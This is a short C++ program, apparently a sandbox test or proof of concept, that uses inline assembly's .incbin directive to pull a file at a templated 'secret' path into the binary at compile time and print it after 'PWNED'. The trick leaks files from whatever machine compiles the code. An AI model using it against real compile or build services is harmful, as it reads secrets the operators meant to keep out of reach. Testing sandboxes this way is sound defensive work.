asm(".section .rodata\nstolen: .incbin \"@CANARY@/secret\"\n.byte 0\n.text");
extern "C" const char stolen[];
#include <cstdio>
int main() { printf("PWNED %s\n", stolen); }
